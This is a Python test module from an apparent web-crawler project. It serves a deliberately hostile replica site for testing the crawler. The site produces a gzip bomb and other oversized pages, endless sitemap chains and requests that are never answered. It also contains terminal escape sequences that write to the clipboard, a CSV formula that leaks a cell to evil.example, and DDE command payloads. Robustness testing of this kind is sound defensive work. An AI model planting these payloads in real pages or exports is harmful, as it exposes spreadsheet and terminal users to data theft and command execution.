"""A malicious replica: the ordinary site plus one attack at a time (``glossary replica --attack MODE``).

Where :mod:`glossary_spider.replica.faults` is a site that misbehaves, this one
is a site that means harm: it tries to hold a crawl (and the archive's lock)
for days, to exhaust its memory or disk with pages under the size caps, to write
escape sequences to the terminals of those who read the archive, and to make
robots.txt say nothing. Each :data:`ATTACKS` mode changes robots.txt or the
sitemap index, which can only be one way per host; the hostile pages are served
in every mode, under ``/attack/``. Requests are logged as the replica logs them.
"""

from __future__ import annotations

import gzip
import json
import random
from functools import cache, partial
from html import escape
from typing import Any

from glossary_spider.replica import themes
from glossary_spider.replica.faults import FaultyReplicaResource, document
from glossary_spider.replica.site import ReplicaSite

MiB = 1024 * 1024
HUGE_CRAWL_DELAY = 100_000
DISALLOWED = "/definition/"

# mode: what the site does
ATTACKS = {
    "none": "only the hostile pages under /attack/",
    "crawl-delay": f"robots.txt asks for a Crawl-delay of {HUGE_CRAWL_DELAY:,} s",
    "sitemap-chain": "an endless chain of sitemap indexes, each listing two new ones",
    "sitemap-wide": "a sitemap index listing 100,000 sitemaps",
    "robots-big": f"a 24 MiB robots.txt whose first rule disallows {DISALLOWED}",
    "robots-bomb": f"a gzip robots.txt inflating to 64 MiB whose first rule disallows {DISALLOWED}",
    "robots-slow": "a robots.txt that is never answered",
}
WIDE_SITEMAPS = 100_000

# Pages under the 16 MiB cap that cost a crawler its memory or disk, and text meant for a terminal.
CONTROL_TEXT = "Clear\x1b[2J\x1b]0;pwned\x07 hidden\x1b[8m text\x9b31m and\x1b]52;c;ZWNobyBwd25lZA==\x07 clip\x00board"


def _links_page() -> bytes:
    # A definition's related list, 357,000 items long: each item a link and its Meaning line.
    items = "".join(f'<li><a href="/definition/flood-{n}/">Flood {n}</a></li>' for n in range(357_000))
    return document("Attack link flood", "Related definitions follow.", f"<ul>{items}</ul>")[:15 * MiB]


def _jsonld_page() -> bytes:
    # 15 JSON-LD blocks, each under the 1 MiB block cap, of tiny objects: a million in all.
    block = "[" + ",".join(['{"@type":"T"}'] * 70_000) + "]"
    head = "".join(f'<script type="application/ld+json">{block}</script>' for _ in range(15))
    return document("Attack JSON-LD flood", "Structured data follows.", head=head)


def _text_page() -> bytes:
    # 15 MiB of prose that does not compress: random words.
    rng = random.Random(17)
    words = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(2, 9))) for _ in range(5000)]
    paragraphs = []
    size = 0
    while size < 15 * MiB:
        paragraph = "<p>" + " ".join(rng.choice(words) for _ in range(200)) + "</p>"
        paragraphs.append(paragraph)
        size += len(paragraph)
    return document("Attack text flood", "Prose follows.", "".join(paragraphs))


def _tags_page() -> bytes:
    # 15 MiB of empty elements: two million nodes for the parser.
    return document("Attack tag flood", "Markup follows.", "<i></i>" * (15 * MiB // 7))


def _sections_page() -> bytes:
    # 200,000 headed sections of one word each.
    sections = "".join(f"<h2>Part {n}</h2><p>word {n}</p>" for n in range(200_000))
    return document("Attack section flood", "Sections follow.", sections)


MICRODATA_NESTING = 1000
MICRODATA_ITEMREF = {"/attack/microdata-itemref/": (200, 2000), "/attack/microdata-itemref-flood/": (2000, 20_000)}


def _microdata_nesting_page() -> bytes:
    # Items nested a thousand levels deep, each a property of the one around it: extruct's search for each
    # item's properties meets those of every item under it, again and again (over ten minutes).
    item = 'itemscope itemtype="http://schema.org/Thing"'
    nested = f'<div {item}>' + f'<div itemprop="p" {item}>' * (MICRODATA_NESTING - 1) + "x"
    return document("Attack microdata nesting", "Items follow.", nested + "</div>" * MICRODATA_NESTING)


def _microdata_names_page() -> bytes:
    # Items nested 30 deep, each under two property names: one value in extruct's items, written out under each
    # name, 2^29 times in all.
    item = 'itemscope itemtype="http://schema.org/Thing"'
    nested = f'<div {item}>' + f'<div itemprop="a b" {item}>' * 29 + '<span itemprop="c">x</span>'
    return document("Attack microdata names", "Items follow.", nested + "</div>" * 30)


def _microdata_itemref_page(path: str) -> bytes:
    # Items that each refer (itemref) to one element of many properties: each reads all of them again.
    items, properties = MICRODATA_ITEMREF[path]
    big = '<div id="big">' + '<span itemprop="p">x</span>' * properties + "</div>"
    return document("Attack microdata itemref", "Items follow.", big + '<div itemscope itemref="big"></div>' * items)


def _control_page() -> bytes:
    text = escape(CONTROL_TEXT)
    jsonld = json.dumps({"@context": "https://schema.org", "@type": "Article", "headline": CONTROL_TEXT,
                         "description": CONTROL_TEXT}, ensure_ascii=False)
    odd = json.dumps(["not an object", 1, None, ["nested"]])
    head = (f'<meta name="description" content="Meaning ⎊ {text}">'
            f'<script type="application/ld+json">{jsonld}</script>'
            f'<script type="application/ld+json">{odd}</script>')
    extra = (f"<h2>{text}</h2><p>{text}</p>"
             f'<ul><li><a href="/definition/international-legal-cooperation/">{text}</a></li></ul>')
    body = (f"<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{text}</title>{head}"
            f"</head><body><article><h1>Attack {text}</h1><div class=\"entry-content\"><p>{text}</p>"
            f"{extra}</div></article></body></html>")
    return body.encode()


# Text a spreadsheet runs when it opens a CSV: a link that sends a neighbouring cell away, and DDE.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the definition")'
FORMULA_SUMMARY = "+cmd|' /C calc'!A0"
FORMULA_TEXT = "-2+3+cmd|' /C calc'!A0 is not a definition."


def _formula_page() -> bytes:
    head = f'<meta name="description" content="{escape(FORMULA_SUMMARY)}">'
    return document(FORMULA_TITLE, FORMULA_TEXT, head=head)


# JSON-LD that Python's json reads and JSON cannot hold (a lone surrogate, NaN, infinities), and an
# @graph whose members are not all nodes.
JSONLD_NOT_JSON = ('{"@context": "https://schema.org", "@type": "DefinedTerm", "name": "Vega \\ud800 skew", '
                   '"score": NaN, "low": -Infinity, "high": 1e999}')
JSONLD_ODD_GRAPH = '{"@graph": ["a string", 3, null, {"@type": "Thing", "name": "Vega"}]}'


def _jsonld_not_json_page() -> bytes:
    head = "".join(f'<script type="application/ld+json">{block}</script>'
                   for block in (JSONLD_NOT_JSON, JSONLD_ODD_GRAPH))
    return document("Attack JSON-LD beyond JSON", "Vega measures how an option's price moves with volatility.",
                    head=head)


def _utf16_page() -> bytes:
    # UTF-16 with its byte order mark, served as text/html without a charset: every browser reads it.
    return document("Attack UTF-16 page", "Vega measures how an option's price moves with volatility."
                    ).decode().replace('<meta charset="utf-8">', "").encode("utf-16")


LONG_FIELD = 2_000_000  # three of them within the 8 MiB of markup read


def _long_title_page() -> bytes:
    # A title, a heading and a description of LONG_FIELD characters each: one word.
    head = f'<meta name="description" content="{"S" * LONG_FIELD}">'
    return document("T" * LONG_FIELD, "Vega measures how an option's price moves with volatility.", head=head)


LONG_LINE = MiB
LONG_HEADING = 500_000
LONG_CATEGORY = 100_000  # JSON-LD past 1 MiB is not read


def _long_lines_page() -> bytes:
    # A byline, a category, a related link's text and a heading of a line many times over: one word each.
    head = ('<script type="application/ld+json">{"@type": "Article", "articleSection": '
            f'["{"C" * LONG_CATEGORY}", "Definition"]}}</script>')
    extra = (f'<div class="post-meta"><a rel="author" href="/author/a/">{"A" * LONG_LINE}</a></div>'
             f'<h3>{"H" * LONG_HEADING}</h3><p>Vega is largest for options at the money.</p>'
             f'<ul><li><a href="/definition/xss/">{"Z" * LONG_LINE}</a></li></ul>')
    return document("Attack long lines", "Vega measures how an option's price moves with volatility.", extra, head)


PAGES = {
    "/attack/link-flood/": _links_page,
    "/attack/jsonld-flood/": _jsonld_page,
    "/attack/text-flood/": _text_page,
    "/attack/tag-flood/": _tags_page,
    "/attack/section-flood/": _sections_page,
    "/attack/microdata-nesting/": _microdata_nesting_page,
    "/attack/microdata-names/": _microdata_names_page,
    **{path: partial(_microdata_itemref_page, path) for path in MICRODATA_ITEMREF},
    "/definition/attack-control-chars/": _control_page,
    "/definition/attack-formulas/": _formula_page,
    "/definition/attack-json-ld/": _jsonld_not_json_page,
    "/definition/attack-utf-16/": _utf16_page,
    "/definition/attack-long-title/": _long_title_page,
    "/definition/attack-long-lines/": _long_lines_page,
}
CONTENT_TYPES = {"/definition/attack-utf-16/": b"text/html"}
# A page whose links lead to another port of the host it is served from (?to=PORT): another server.
OTHER_PORT = "/attack/other-port/"
# A page that is never answered: it holds a crawl's stop for as long as the crawl waits.
NEVER_ANSWERED = "/attack/never-answered/"
REDIRECTS = {
    # Locations whose host cannot be read.
    "/attack/redirect-bad-host/": "http://exa mple.com:99999999/",
    "/attack/redirect-bad-ipv6/": "http://[::1/definition/x/",
    # A target on the same host, longer than any URL a crawler requests.
    "/attack/redirect-long/": "/" + "b" * 10_000,
}


# Sitemaps past the 16 MiB download cap: a text one as sent, a gzip file (not a Content-Encoding) once inflated.
HUGE_SITEMAP = "/attack/huge-sitemap.txt"
HUGE_GZIP_SITEMAP = "/attack/huge-sitemap.txt.gz"
# A sitemap listing a page, and a URL of 8 MiB on the same host (a request for it would take most of a gigabyte).
LONG_LOC_SITEMAP = "/attack/long-loc-sitemap.xml"


@cache
def page(path: str) -> bytes:
    return PAGES[path]()


@cache
def _huge_sitemap(base: str, gzipped: bool) -> bytes:
    lines = "".join(f"{base}/definition/listed-{n:07}/\n" for n in range(17 * MiB // (len(base) + 29)))
    return gzip.compress(lines.encode(), compresslevel=1) if gzipped else lines.encode()


@cache
def _gzip_bomb() -> bytes:
    return gzip.compress(f"User-agent: *\nDisallow: {DISALLOWED}\n".encode() + b"#" * (64 * MiB), compresslevel=9)


@cache
def _big_robots() -> bytes:
    head = f"User-agent: *\nDisallow: {DISALLOWED}\n".encode()
    return head + b"# padding to make robots.txt larger than anyone reads\n" * (24 * MiB // 54)


class AttackReplicaResource(FaultyReplicaResource):
    """The hostile replica, plus the hostile pages and the one attack ``attack`` (a key of :data:`ATTACKS`)."""

    def __init__(self, site: ReplicaSite, log: Any = None, attack: str = "none"):
        super().__init__(site, log)
        self.attack = attack

    def render_GET(self, request: Any) -> Any:
        path = request.path.decode("utf-8", "replace")
        host = (request.getHeader(b"host") or b"127.0.0.1").decode("latin-1")
        base = f"http://{host}"
        if path == "/robots.txt" and self.attack.startswith(("robots-", "crawl-delay")):
            return self._robots(request, path, base)
        if path.startswith("/sitemap") and self.attack.startswith("sitemap-"):
            return self._sitemaps(request, path, base)
        if path in PAGES:
            return self._send(request, path, 200, page(path), CONTENT_TYPES.get(path, b"text/html; charset=utf-8"))
        if path == OTHER_PORT:
            port = int((request.args.get(b"to") or [b"9"])[0])
            there = f"http://{host.rpartition(':')[0] or host}:{port}"
            links = (f'<ul><li><a href="{there}/definition/vega/">Vega</a></li>'
                     f'<li><a href="{there}/sitemap_index.xml">Sitemap</a></li></ul>')
            return self._send(request, path, 200, document("Attack other port", "Links to another server.", links))
        if path in REDIRECTS:
            request.setHeader(b"Location", REDIRECTS[path].encode())
            return self._send(request, path, 302, b"")
        if path in (HUGE_SITEMAP, HUGE_GZIP_SITEMAP):
            gzipped = path == HUGE_GZIP_SITEMAP
            return self._send(request, path, 200, _huge_sitemap(base, gzipped),
                              b"application/gzip" if gzipped else b"text/plain; charset=utf-8")
        if path == LONG_LOC_SITEMAP:
            body = ('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                    f"<url><loc>{base}/definition/attack-formulas/</loc></url>"
                    f"<url><loc>{base}/definition/{'q' * (8 * MiB)}/</loc></url></urlset>")
            return self._send(request, path, 200, body.encode(), b"application/xml")
        if path == NEVER_ANSWERED:
            return self._never_answer(request, path)
        return super().render_GET(request)

    def _never_answer(self, request: Any, path: str) -> Any:
        from twisted.web import server

        self.log_request(request, path, 0)
        request.notifyFinish().addErrback(lambda _: None)
        return server.NOT_DONE_YET

    def _send(self, request: Any, path: str, status: int, body: bytes,
              content_type: bytes = b"text/html; charset=utf-8") -> bytes:
        request.setResponseCode(status)
        request.setHeader(b"Content-Type", content_type)
        self.log_request(request, path, status)
        return body

    def _robots(self, request: Any, path: str, base: str) -> Any:
        if self.attack == "crawl-delay":
            body = themes.robots(base).replace(b"User-agent: *\n", f"User-agent: *\nCrawl-delay: "
                                               f"{HUGE_CRAWL_DELAY}\n".encode())
            return self._send(request, path, 200, body, b"text/plain")
        if self.attack == "robots-big":
            return self._send(request, path, 200, _big_robots(), b"text/plain")
        if self.attack == "robots-bomb":
            request.setHeader(b"Content-Encoding", b"gzip")
            return self._send(request, path, 200, _gzip_bomb(), b"text/plain")
        return self._never_answer(request, path)  # robots-slow

    def _sitemaps(self, request: Any, path: str, base: str) -> bytes:
        ns = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
        if self.attack == "sitemap-chain":
            # /sitemap_index.xml, then /sitemap-chain-<n>.xml lists 2n+1 and 2n+2: a tree without end.
            n = int(path.removeprefix("/sitemap-chain-").removesuffix(".xml") or 0) if "chain" in path else 0
            children = (2 * n + 1, 2 * n + 2)
            entries = "".join(f"<sitemap><loc>{base}/sitemap-chain-{c}.xml</loc></sitemap>" for c in children)
            body = f'<?xml version="1.0"?><sitemapindex {ns}>{entries}</sitemapindex>'
        elif path == "/sitemap_index.xml":
            entries = "".join(f"<sitemap><loc>{base}/sitemap-wide-{n}.xml</loc></sitemap>"
                              for n in range(WIDE_SITEMAPS))
            body = f'<?xml version="1.0"?><sitemapindex {ns}>{entries}</sitemapindex>'
        else:
            n = path.removeprefix("/sitemap-wide-").removesuffix(".xml")
            body = (f'<?xml version="1.0"?><urlset {ns}><url><loc>{base}/definition/wide-{escape(n)}/</loc></url>'
                    "</urlset>")
        return self._send(request, path, 200, body.encode(), b"application/xml")
